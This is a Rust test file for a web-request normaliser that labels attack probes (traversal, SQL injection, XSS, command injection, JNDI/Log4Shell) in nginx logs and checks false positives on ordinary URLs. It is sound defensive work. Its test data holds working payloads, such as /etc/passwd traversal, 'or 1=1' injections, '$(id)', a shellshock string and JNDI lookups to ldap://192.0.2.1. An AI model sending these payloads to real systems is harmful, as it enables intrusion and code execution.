//! Attacks are named in `probes`, whatever redaction makes of the texts; ordinary requests are not. Shares over public sets
//! of both are measured where `$GATEWATCH_REFERENCE` names their folder.

#![allow(clippy::disallowed_methods, clippy::unwrap_used, clippy::print_stdout)] // a test is told by the environment where data is

use std::collections::BTreeMap;

use schemas::{Keys, Lane, Normaliser, RawBatch, SourceConfig, event_json};
use serde_json::{Value, json};

fn normaliser() -> Normaliser {
    Normaliser::new(&SourceConfig::new("nginx_json"), &Keys::new("k1", b"fake")).expect("a built-in kind")
}

fn probes(normaliser: &mut Normaliser, target: &str, agent: &str, referrer: &str) -> Vec<String> {
    let record = json!({"msec": 1_790_000_000, "remote_addr": "203.0.113.7", "request_method": "GET", "request_uri": target,
        "status": 200, "http_user_agent": agent, "http_referer": referrer});
    let mut raw = RawBatch::new();
    raw.push(0, 0, record.to_string().as_bytes());
    let events = normaliser.normalise(&Lane::new("probes", 0), &raw).events;
    let names = event_json(&events, 0)["probes"].clone();
    names
        .as_array()
        .map(|names| names.iter().filter_map(|name| name.as_str().map(String::from)).collect())
        .unwrap_or_default()
}

#[test]
fn attacks_are_named_through_encodings_and_redaction() {
    for (target, class) in [
        ("/static/../../etc/passwd", "traversal"),
        ("/download?file=..%2f..%2fconf", "traversal"),
        ("/a?file=%252e%252e%252fconf", "traversal"),
        ("/search?q=1%27%20OR%20%271%27=%271", "sqli"),
        ("/search?q=1+union+all+select+null,null--", "sqli"),
        ("/search?id=1;drop%20table%20users", "sqli"),
        ("/login?password=x%27%20or%20%271%27=%271", "sqli"),
        ("/login?token=eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.fake%27%20or%201=1--", "sqli"),
        ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "xss"),
        ("/search?q=%22%20onmouseover=%22alert(1)", "xss"),
        ("/ping?host=192.0.2.1;cat%20/etc/hostname", "cmdi"),
        ("/x?y=$(id)", "cmdi"),
        ("/x?y=${jndi:ldap://192.0.2.1/a}", "jndi"),
        ("/x?y=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D", "jndi"),
    ] {
        let names = probes(&mut normaliser(), target, "curl/8", "");
        assert!(names.iter().any(|name| name == class), "{target}: {names:?}");
    }
    let mut one = normaliser();
    assert_eq!(probes(&mut one, "/", "${jndi:ldap://192.0.2.1/a}", ""), ["jndi"]);
    assert_eq!(probes(&mut one, "/", "() { :; }; echo x", ""), ["cmdi"]);
    assert_eq!(probes(&mut one, "/", "curl/8", "https://r.example/?q=<script>x</script>"), ["xss"]);
}

#[test]
fn a_key_of_odata_is_no_attack() {
    let mut one = normaliser();
    for path in ["/odata/Customers(%27ALFKI%27)/Orders", "/odata/Customers('ALFKI')", "/o/A('1')/B('x-2')/c?$top=5"] {
        assert_eq!(probes(&mut one, path, "curl/8", ""), [""; 0], "{path}");
    }
    for path in ["/odata/Customers('a' or '1'='1')", "/x('a')'%20or%201=1--", "/x?q=a('b')'%20or%201=1--"] {
        assert_eq!(probes(&mut one, path, "curl/8", ""), ["sqli"], "{path}");
    }
}

#[test]
fn neither_length_nor_a_second_protocol_nor_the_host_hides_an_attack() {
    let long = "x".repeat(20_000);
    let mut one = normaliser();
    assert_eq!(probes(&mut one, &format!("/a?q={long}%27%20or%20%271%27=%271"), "curl/8", ""), ["sqli"]);
    assert_eq!(probes(&mut one, &format!("/a/{long}é/../../etc/passwd"), "curl/8", ""), ["traversal"]);
    assert_eq!(probes(&mut one, "/", &format!("{long} ${{jndi:ldap://192.0.2.1/a}}"), ""), ["jndi"]);
    assert_eq!(probes(&mut one, &format!("/a?q={long}&b=1"), &long, ""), [""; 0]);
    let of_record = |record: Value| {
        let mut raw = RawBatch::new();
        raw.push(0, 0, record.to_string().as_bytes());
        event_json(&normaliser().normalise(&Lane::new("probes", 0), &raw).events, 0)["probes"].clone()
    };
    let base = |more: (&str, &str)| {
        let mut record = json!({"msec": 1_790_000_000, "remote_addr": "203.0.113.7", "status": 200});
        record[more.0] = more.1.into();
        record
    };
    assert_eq!(of_record(base(("http_host", "a.example' or 1=1--"))), json!(["sqli"]));
    assert_eq!(of_record(base(("http_host", "api.shop.example:8443"))), Value::Null);
    assert_eq!(of_record(base(("request", "GET /x HTTP/1.1' or '1'='1 HTTP/1.1"))), json!(["sqli"]));
}

#[test]
fn ordinary_requests_are_not() {
    let mut normaliser = normaliser();
    for target in [
        "/v1/orders/42",
        "/a?q=blue%20shoes&sort=price",
        "/a?name=O%27Brien",
        "/a?q=salt+and+pepper",
        "/a?id=5&set=2&env=prod&cat=3",
        "/a?q=union+of+students",
        "/a?filter={\"a\":1}",
        "/a?q=rock+%26+roll",
        "/a?q=d%27or",
        "/app;jsessionid=fake1;v=1?x=1",
        "/a?range=1..5",
        "/a?q=C%2B%2B+or+Rust",
        "/logo@2x.png",
        "/a?t=12:30&d=2024-01-01--2024-02-01",
        "/odata/Orders?$filter=Price%20gt%2020&$select=Name,Price&$orderby=Name",
        "/a?q=select+a+gift",
        "/a?e=x%3Dy%3Bz",
    ] {
        let agent = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
        assert_eq!(probes(&mut normaliser, target, agent, "https://shop.example/?q=a%20b"), [""; 0], "{target}");
    }
}

#[test]
#[ignore = "needs GATEWATCH_REFERENCE"]
fn shares_over_public_sets() {
    let root = std::path::PathBuf::from(
        std::env::var_os("GATEWATCH_REFERENCE").expect("GATEWATCH_REFERENCE names the folder of the data"),
    );
    let show = std::env::var("GATEWATCH_SHOW").unwrap_or_default();
    let mut normaliser = normaliser();
    let (mut benign, mut flagged) = (0, 0);
    let mut shares: BTreeMap<(String, String), (u32, u32)> = BTreeMap::new();
    for set in ["httpparams", "libinjection", "owasp-crs", "gotestwaf"] {
        for line in std::fs::read_to_string(root.join(set).join("cases.jsonl")).expect("the set").lines() {
            let case: Value = serde_json::from_str(line).expect("a case is JSON");
            let text = |name: &str| case[name].as_str().unwrap_or("");
            let (mut target, mut agent) = (text("target"), text("user_agent"));
            if text("where") == "user_agent" && agent.is_empty() {
                (agent, target) = (text("payload"), "/");
            }
            let names = probes(&mut normaliser, target, agent, text("referer"));
            let is_attack = case["attack"].as_bool().expect("labelled");
            let share = shares
                .entry((set.to_string(), format!("{} {}", if is_attack { "attack" } else { "benign" }, text("class"))))
                .or_default();
            share.0 += 1;
            share.1 += u32::from(!names.is_empty());
            // The rule tests of a WAF call values benign that are so for one rule only.
            if !is_attack && set != "owasp-crs" {
                benign += 1;
                flagged += u32::from(!names.is_empty());
            }
            if show == format!("{set} {}", text("class")) && names.is_empty() == is_attack {
                println!("{target} {agent} {names:?}");
            }
        }
    }
    for ((set, class), (all, named)) in &shares {
        println!("{set:14} {class:28} {named:5} of {all:5}  {:.1} %", 100.0 * f64::from(*named) / f64::from(*all));
    }
    let named = |class: &str| {
        let of =
            shares.iter().filter(|((set, c), _)| c.ends_with(class) && c.starts_with("attack") && set != "owasp-crs");
        let (all, named) = of.fold((0, 0), |sum, (_, share)| (sum.0 + share.0, sum.1 + share.1));
        f64::from(named) / f64::from(all)
    };
    println!("benign named: {flagged} of {benign}; sqli {:.3}, xss {:.3}", named("sqli"), named("xss"));
    assert!(f64::from(flagged) <= 0.005 * f64::from(benign), "{flagged} of {benign} benign values are called attacks");
    assert!(named("sqli") >= 0.95 && named("xss") >= 0.95, "sqli {} xss {}", named("sqli"), named("xss"));
}
